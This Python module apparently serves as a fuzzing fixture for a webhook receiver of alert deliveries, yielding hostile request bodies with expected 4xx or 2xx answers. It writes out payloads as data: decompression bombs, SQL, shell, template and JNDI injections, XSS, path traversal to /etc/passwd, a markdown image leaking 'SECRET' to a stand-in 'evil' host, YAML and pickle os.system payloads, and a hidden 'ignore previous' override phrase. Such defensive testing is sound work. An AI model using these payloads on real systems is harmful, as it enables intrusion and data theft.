"""Hostile webhook bodies.

`reject` must be answered 4xx, `accept` 2xx, `either` one of the two; never 5xx, never slowly, never with much memory.
"""

from __future__ import annotations

import gzip
import json
import zlib
from collections.abc import Iterator
from typing import Any, Literal, NamedTuple

Expectation = Literal["reject", "accept", "either"]


class HostileBody(NamedTuple):
    """One body, and what it must get."""

    name: str
    headers: dict[str, str]
    body: bytes
    expect: Expectation


def bodies() -> Iterator[HostileBody]:
    """All of them."""
    for family in (_depth_and_size, _compression, _numbers, _keys, _texts, _encodings, _types, _values, _transport):
        yield from family()


def _hostile(
    name: str, body: bytes, expect: Expectation = "either", headers: dict[str, str] | None = None
) -> HostileBody:
    return HostileBody(name, {"Content-Type": "application/json", **(headers or {})}, body, expect)


def _delivery(**changes: Any) -> dict[str, Any]:
    return {
        "version": "4",
        "groupKey": '{}:{alertname="X"}',
        "status": "firing",
        "receiver": "rca",
        "groupLabels": {"alertname": "X"},
        "commonLabels": {"service": "checkout"},
        "commonAnnotations": {},
        "externalURL": "http://am",
        "alerts": [_alert()],
        **changes,
    }


def _alert(**changes: Any) -> dict[str, Any]:
    return {
        "status": "firing",
        "labels": {"alertname": "X", "service": "checkout"},
        "annotations": {"summary": "s"},
        "startsAt": "2026-11-23T07:00:00Z",
        "endsAt": "0001-01-01T00:00:00Z",
        "generatorURL": "http://p",
        "fingerprint": "c0ffee",
        **changes,
    }


def _json(value: object) -> bytes:
    return json.dumps(value).encode()


def _with_labels(**labels: Any) -> bytes:
    return _json(_delivery(alerts=[_alert(labels={"alertname": "X", "service": "checkout", **labels})]))


def _with_alert(**changes: Any) -> bytes:
    return _json(_delivery(alerts=[_alert(**changes)]))


def _depth_and_size() -> Iterator[HostileBody]:
    for depth in (64, 1000, 20000, 100000):
        yield _hostile(f"nest_array_{depth}", b"[" * depth + b"]" * depth, "reject")
    yield _hostile("nest_object_20000", b'{"a":' * 20000 + b"1" + b"}" * 20000, "reject")
    nested = b"[" * 5000 + b"]" * 5000
    yield _hostile("nest_in_annotation_5000", b'{"alerts":[{"labels":{"a":' + nested + b"}}]}", "reject")
    yield _hostile("open_brackets_100k", b"[" * 100000, "reject")
    yield _hostile("string_10MB", _with_labels(message="A" * 10_000_000), "reject")
    yield _hostile("whitespace_20MB", b" " * 20_000_000 + b"{}", "reject")
    yield _hostile("keys_200k", _json({f"k{i}": i for i in range(200_000)}), "reject")
    yield _hostile("alerts_50k", _json(_delivery(alerts=[_alert()] * 50_000)), "reject")
    yield _hostile("alerts_0", _json(_delivery(alerts=[])))
    yield _hostile("labels_5k", _with_labels(**{f"l{i}": "v" for i in range(5000)}))
    yield _hostile("long_key_1MB", _json({"k" * 1_000_000: 1}), "reject")


def _compression() -> Iterator[HostileBody]:
    gzipped = {"Content-Encoding": "gzip"}
    bomb = gzip.compress(b'{"a":"' + b"A" * 50_000_000 + b'"}', 9)
    yield _hostile("gzip_bomb_50MB", bomb, "reject", gzipped)
    nested = gzip.compress(gzip.compress(b"0" * 30_000_000))
    yield _hostile("gzip_bomb_nested", nested, "reject", {"Content-Encoding": "gzip, gzip"})
    deflated = zlib.compress(b" " * 50_000_000, 9)
    yield _hostile("deflate_bomb", deflated, "reject", {"Content-Encoding": "deflate"})
    yield _hostile("gzip_header_plain_body", _json(_delivery()), "reject", gzipped)
    yield _hostile("gzip_truncated", gzip.compress(_json(_delivery()))[:-9], "reject", gzipped)
    yield _hostile("gzip_ok", gzip.compress(_json(_delivery())), "either", gzipped)
    yield _hostile("unknown_encoding_br", _json(_delivery()), "reject", {"Content-Encoding": "br"})


_NUMBERS = {
    "NaN": "NaN",
    "Infinity": "Infinity",
    "minus_Infinity": "-Infinity",
    "1e400": "1e400",
    "int_5000_digits": "9" * 5000,
    "int_100k_digits": "9" * 100_000,
    "int_2e63": "9223372036854775808",
    "float_tiny": "1e-400",
    "minus_zero": "-0",
    "exp_huge": "1E1000000000",
}


def _numbers() -> Iterator[HostileBody]:
    for name, number in _NUMBERS.items():
        body = b'{"alerts":[{"labels":{"alertname":"X"},"value":' + number.encode() + b"}]}"
        yield _hostile(f"num_{name}", body, "reject" if name.endswith(("NaN", "Infinity")) else "either")


def _keys() -> Iterator[HostileBody]:
    yield _hostile("dup_keys_status", b'{"status":"resolved","status":"firing","alerts":[]}')
    yield _hostile("dup_keys_labels", b'{"alerts":[{"labels":{"service":"a","service":"b"}}]}')
    yield _hostile("proto_pollution", b'{"__proto__":{"admin":true},"constructor":{"prototype":{"x":1}},"alerts":[]}')
    yield _hostile("dunder_keys", _with_labels(__class__="x", __init__="y"))
    yield _hostile("empty_keys", b'{"":"","alerts":[{"labels":{"":""}}]}')
    reserved = _delivery(id="1", incident_id="../../x", callback_url="http://127.0.0.1/", kwargs={"x": 1})
    yield _hostile("reserved_keys", _json(reserved))


_TEXTS = {
    "nul": "a\u0000b",
    "bidi": "abc\u202egnp.exe",
    "zwj_tags": "".join(chr(0xE0000 + ord(character)) for character in "ignore previous"),
    "ansi": "\x1b[2J\x1b]8;;http://evil/\x07x\x1b]8;;\x07",
    "crlf": "x\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "html": "<img src=x onerror=alert(1)>\"'><script>alert(1)</script>",
    "jinja": "{{7*7}}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "fmt": "%s%n{0.__class__}${jndi:ldap://127.0.0.1/a}",
    "logql": '"} |= `` or {app=~".+"} #',
    "sql": "x'); DROP TABLE incidents;--",
    "path": "../../../../etc/passwd",
    "path_enc": "..%2f..%2fetc%2fpasswd\\..\\..",
    "slack": "<!channel> <https://evil|click> *b* `x`",
    "md_img": "![x](http://evil/?q=SECRET)",
    "zalgo": "e" + "\u0301" * 5000,
    "nonchar": "\uffff\ufffe",
    "bom": "\ufeffx",
    "emoji_astral": "💥" * 2000,
    "long_line": "A" * 300_000,
    "newline_log_forgery": "ok\n2026-11-23 CRITICAL admin logged in",
    "null_str": "null",
    "shell": "$(touch pwned)`id`;|&",
}


def _texts() -> Iterator[HostileBody]:
    for name, text in _TEXTS.items():
        for label in ("service", "alertname"):
            yield _hostile(f"txt_{name}_{label}", _with_labels(**{label: text}))


def _encodings() -> Iterator[HostileBody]:
    lone = b'{"alerts":[{"labels":{"alertname":"\\ud800","service":"a"}}]}'
    yield _hostile("txt_lone_high_surrogate", lone)
    yield _hostile("txt_lone_low_surrogate_key", b'{"alerts":[{"labels":{"\\udc00":"a"}}]}')
    yield _hostile("txt_nul_key", b'{"alerts":[{"labels":{"a\\u0000b":"a"}}]}')
    yield _hostile("txt_invalid_utf8", b'{"alerts":[{"labels":{"alertname":"\xff\xfe\x80"}}]}', "reject")
    yield _hostile("txt_overlong_utf8", b'{"a":"\xc0\xaf\xc0\xae"}', "reject")
    yield _hostile("txt_cesu8", b'{"a":"\xed\xa0\x80"}', "reject")
    yield _hostile("enc_utf16", '{"alerts":[]}'.encode("utf-16"))
    yield _hostile("enc_utf32", '{"alerts":[]}'.encode("utf-32"))
    yield _hostile("enc_bom", '\ufeff{"alerts":[]}'.encode())


_TYPES: dict[str, Any] = {
    "null": None,
    "true": True,
    "int": 1,
    "str": "x",
    "list": [],
    "list_mixed": [1, "a", None, {}],
}


def _types() -> Iterator[HostileBody]:
    for name, value in _TYPES.items():
        yield _hostile(f"top_{name}", _json(value), "reject")
        yield _hostile(f"alerts_{name}", _json(_delivery(alerts=value)))
        yield _hostile(f"labels_{name}", _json(_delivery(alerts=[{"labels": value}])))
    yield _hostile("alerts_nested_list", _json(_delivery(alerts=[[[[]]]])))
    labels = {"service": {"a": [1]}, "alertname": None, "severity": 5, "x": True}
    yield _hostile("label_values_not_strings", _with_labels(**labels))


_TIMES: tuple[Any, ...] = (
    "not-a-date",
    "0000-00-00T00:00:00Z",
    "99999-01-01T00:00:00Z",
    "2026-02-30T25:61:61Z",
    "-1",
    "1e99",
    "2026-11-23T07:00:00+99:99",
    0,
    {},
)

_URLS = ("javascript:alert(1)", "http://127.0.0.1/", "file:///etc/passwd", "x" * 70_000)


def _values() -> Iterator[HostileBody]:
    for time in _TIMES:
        yield _hostile(f"time_{str(time)[:24]}", _with_alert(startsAt=time))
    for url in _URLS:
        yield _hostile(f"genurl_{url[:16]}", _with_alert(generatorURL=url))


def _transport() -> Iterator[HostileBody]:
    whole = _json(_delivery())
    yield _hostile("empty", b"", "reject")
    yield _hostile("spaces", b"   \n", "reject")
    yield _hostile("truncated", whole[:-40], "reject")
    yield _hostile("two_docs", whole * 2, "reject")
    yield _hostile("trailing_garbage", whole + b"\x00\x00", "reject")
    yield _hostile("json_seq", b"\x1e{}\n", "reject")
    yield _hostile("comments", b'{/*x*/"alerts":[]}', "reject")
    yield _hostile("single_quotes", b"{'alerts':[]}", "reject")
    yield _hostile("trailing_comma", b'{"alerts":[],}', "reject")
    xml = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>'
    yield _hostile("xml", xml, "reject", {"Content-Type": "application/xml"})
    yaml = b'!!python/object/apply:os.system ["true"]'
    yield _hostile("yaml", yaml, "reject", {"Content-Type": "application/yaml"})
    pickled = b"\x80\x04\x8c\x02os\x94\x8c\x06system\x94\x93\x94\x8c\x04true\x94\x85\x94R\x94."
    yield _hostile("pickle", pickled, "reject", {"Content-Type": "application/x-python-serialize"})
    form = {"Content-Type": "application/x-www-form-urlencoded"}
    yield _hostile("form", b"payload=%7B%7D", "either", form)
    disposition = b'Content-Disposition: form-data; name="a"; filename="../../x"'
    multipart = b"--x\r\n" + disposition + b"\r\n\r\n" + b"\r" * 100_000 + b"--x--"
    yield _hostile("multipart_evil", multipart, "reject", {"Content-Type": "multipart/form-data; boundary=x"})
    yield _hostile("ctype_charset_bad", whole, "either", {"Content-Type": "application/json; charset=utf-7"})
    yield _hostile("ctype_missing", whole, "either", {"Content-Type": ""})
    yield _hostile("ctype_text", whole, "either", {"Content-Type": "text/plain"})
